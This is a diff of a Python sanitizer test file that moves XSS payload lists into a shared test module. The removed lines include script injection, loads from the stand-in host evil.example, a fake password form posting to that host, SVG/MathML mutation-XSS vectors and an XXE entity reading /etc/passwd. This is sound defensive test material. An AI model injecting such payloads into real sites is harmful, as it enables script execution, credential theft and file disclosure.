@@ -2,61 +2,7 @@
 
 from itertools import product
 
-CALL = "alert(1)"
-
-# An element that runs, loads, sends, frames or restyles when it reaches a page as a tag.
-ELEMENTS = [
-    f"<script>{CALL}</script>",
-    f"<SCRIPT>{CALL}</SCRIPT>",
-    f"<script >{CALL}</script >",
-    f"<script\n>{CALL}</script\n>",
-    f"<script/x>{CALL}</script>",
-    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
-    f"<<script>{CALL}//<</script>",
-    "<script src=https://evil.example/x.js></script>",
-    "<script src=//evil.example/x.js>",
-    "<script type=module>import '//evil.example/x.js'</script>",
-    f"<script>{CALL}",
-    f"</p><script>{CALL}</script><p>",
-    f"</title><script>{CALL}</script>",
-    f"</textarea><script>{CALL}</script>",
-    f"</style><script>{CALL}</script>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<style>*{background:url(https://evil.example/)}</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<base href=https://evil.example/>",
-    "<iframe src=https://evil.example/></iframe>",
-    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
-    "<object data=https://evil.example/x.swf></object>",
-    "<embed src=https://evil.example/x.swf>",
-    "<applet code=Evil></applet>",
-    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
-    "<input autofocus name=q>",
-    "<button formaction=https://evil.example/>Go</button>",
-    "<textarea>your details</textarea>",
-    "<select><option>pick</option></select>",
-    "<img src=https://evil.example/pixel.gif>",
-    "<picture><source srcset=https://evil.example/x></picture>",
-    "<video src=https://evil.example/x autoplay></video>",
-    "<audio src=https://evil.example/x autoplay></audio>",
-    "<dialog open>Enter your password</dialog>",
-    "<template><img src=x></template>",
-    "<noscript><p title='</noscript><img src=x>'></noscript>",
-    "<plaintext>the rest is gone",
-    "<xmp><b>shown</b></xmp>",
-    "<listing>&lt;img src=x&gt;</listing>",
-    "<marquee>moving</marquee>",
-    "<frameset><frame src=https://evil.example/></frameset>",
-    "<portal src=https://evil.example/></portal>",
-    "<custom-element>x</custom-element>",
-    "<slot name=x></slot>",
-    "<div style='position:fixed;inset:0'>over everything</div>",
-    "<span class=admin-only>classed</span>",
-    "<body bgcolor=red>",
-    "<html manifest=x>",
-    "<head><title>other</title></head>",
-]
+from tests.text.hostile_markup import CALL, ELEMENTS, FOREIGN
 
 # An attribute that runs, on any element, allowed or not.
 EVENTS = (
@@ -137,51 +83,6 @@ SCHEMES = [
 ]
 LINKS = [f"[your results]({scheme})" for scheme in SCHEMES] + [
     f'<a href="{scheme}">your results</a>' for scheme in SCHEMES
-]
-
-# Markup that one parser reads otherwise than the next, so that cleaning it once is not enough.
-FOREIGN = [
-    f"<svg><script>{CALL}</script></svg>",
-    f"<svg/onload={CALL}>",
-    f"<svg><animate onbegin={CALL} attributeName=x></svg>",
-    f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
-    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
-    "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
-    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<math href='javascript:alert(1)'>x</math>",
-    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!-- --!><img src=x onerror=alert(1)> -->",
-    "<!--[if IE]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><?php echo 1 ?>",
-    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
-    "<!ENTITY lol 'lol'>&lol;",
-    '<p title="<!--"><img src=x onerror=alert(1)>-->',
-    '<a href="`javascript:alert(1)">x</a>',
-    "<p/onclick=alert(1)//>x",
-    "<p onclick\n=\nalert(1)>x</p>",
-    '<p onclick="alert&lpar;1&rpar;">x</p>',
-    '<p "onclick=alert(1)>x</p>',
-    "<a href='x' href='javascript:alert(1)'>x</a>",
-    "<img src=x:x onerror\x09=alert(1)>",
-    "<table><td background=javascript:alert(1)>x</table>",
-    "<table><tr><td style='background:url(javascript:alert(1))'>x</table>",
-    "<td class='align-left admin'>x</td>",
-    "<h2 id='\"><script>alert(1)</script>'>x</h2>",
-    "<h2 id=constructor name=body>x</h2>",
-    "<li><ul><li></ul></p></blockquote></main></body></html>after the end",
-    "</div></div></main><h1>Another page</h1>",
-    "<p><table><p><a><table><a>",
-    "<b><i><u><s>badly <b>nested</i></b></u>",
-    "<" * 40 + "script>",
-    "<p" + " a" * 300 + ">",
-    "<a" + " href=x" * 100 + ">x</a>",
-    "<" + "a" * 300 + ">",
 ]
 
 # Ways to write < so that only a later reader sees it.
